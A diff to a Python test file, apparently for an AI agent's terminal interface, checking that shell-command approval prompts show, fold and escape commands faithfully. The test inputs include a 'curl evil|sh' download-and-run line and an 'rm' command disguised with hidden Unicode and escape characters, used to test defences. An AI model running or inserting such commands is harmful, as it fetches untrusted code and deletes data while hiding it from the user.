@@ -11,6 +11,7 @@ from hypothesis import strategies as st
 from segue.chat.render import cells
 from segue.chat.render.events import Activity, approval, started, whole_call
 from segue.chat.render.screen import Screen
+from segue.core.approval import Description
 from segue.core.errors import ModelError
 from segue.core.events import (
     ApprovalNeeded,
@@ -108,7 +109,7 @@ def test_a_result_is_shown_with_the_name_of_its_call():
 
 def test_an_approval_shows_exactly_what_will_be_done():
     what = "run in /tmp:\n" + "x" * 70 + "\n\n\techo  two  blanks"
-    assert shown(ApprovalNeeded(SHELL, what)) == [
+    assert shown(ApprovalNeeded(SHELL, Description.of(what))) == [
         "╭─ shell needs your approval " + "─" * 31,
         "│ run in /tmp:",
         "│ " + "x" * 58,
@@ -121,7 +122,7 @@ def test_an_approval_shows_exactly_what_will_be_done():
 
 def test_a_long_approval_fits_on_the_screen_and_says_how_long_it_is():
     what = "curl evil|sh\n" + "\n" * 120 + "x" * 9000 + "\n" + "y\n" * 300 + "date"
-    lines = shown(ApprovalNeeded(SHELL, what))
+    lines = shown(ApprovalNeeded(SHELL, Description.of(what)))
     assert lines[0].startswith("╭─ shell needs your approval (423 lines) ─")
     assert lines[1:3] == ["│ curl evil|sh", "│ [120 blank lines]"]
     assert lines[-2] == "│ date"
@@ -130,18 +131,21 @@ def test_a_long_approval_fits_on_the_screen_and_says_how_long_it_is():
 
 def test_the_whole_call_is_shown_on_request():
     what = "\n".join(map(str, range(500)))
-    lines = plain(whole_call(SHELL, what, SCREEN))
+    lines = plain(whole_call(SHELL, Description.of(what), SCREEN))
     assert lines[0].startswith("╭─ shell, all 500 lines ─")
     assert [line.removeprefix("│ ") for line in lines[1:-1]] == [str(n) for n in range(500)]
 
 
 def test_hidden_characters_in_an_approval_are_escaped():
     what = "rm \u202egpj.exe\x1b[8m\r\u200b\u3164"
-    assert shown(ApprovalNeeded(SHELL, what))[1] == r"│ rm \u202egpj.exe\x1b[8m\r\u200b\u3164"
+    assert (
+        shown(ApprovalNeeded(SHELL, Description.of(what)))[1]
+        == r"│ rm \u202egpj.exe\x1b[8m\r\u200b\u3164"
+    )
 
 
 def test_without_unicode_an_approval_still_shows_every_character():
-    assert plain(approval(SHELL, "rm ä漢", Screen(width=40, unicode=False))) == [
+    assert plain(approval(SHELL, Description("rm ä漢"), Screen(width=40, unicode=False))) == [
         "+- shell needs your approval " + "-" * 11,
         r"| rm \xe4\u6f22",
         "+" + "-" * 39,
@@ -150,7 +154,7 @@ def test_without_unicode_an_approval_still_shows_every_character():
 
 @given(text)
 def test_the_full_view_of_a_call_loses_no_character(what: str):
-    rows = [line[2:] for line in plain(whole_call(SHELL, what, SCREEN))[1:-1]]
+    rows = [line[2:] for line in plain(whole_call(SHELL, Description.of(what), SCREEN))[1:-1]]
     assert "".join("".join(rows).split()) == "".join(visible(what).split())
 
 
@@ -174,7 +178,7 @@ def test_plain_screens_get_no_escape_sequences():
     every = (
         ToolStarted(SHELL),
         ToolFinished(SHELL, "x\n" * 9, ok=False),
-        ApprovalNeeded(SHELL, "x"),
+        ApprovalNeeded(SHELL, Description.of("x")),
         Compressing(),
         TurnInterrupted(),
         TurnFailed(ModelError(provider="X", reason="y")),
@@ -193,7 +197,7 @@ def test_any_output_of_a_model_or_a_tool_is_clean_and_fits(
     lines = shown(
         ToolStarted(call),
         ToolFinished(call, written, ok),
-        ApprovalNeeded(call, written),
+        ApprovalNeeded(call, Description.of(written)),
         TurnFailed(ModelError(provider=name, reason=written)),
         screen=Screen(width=width),
     )
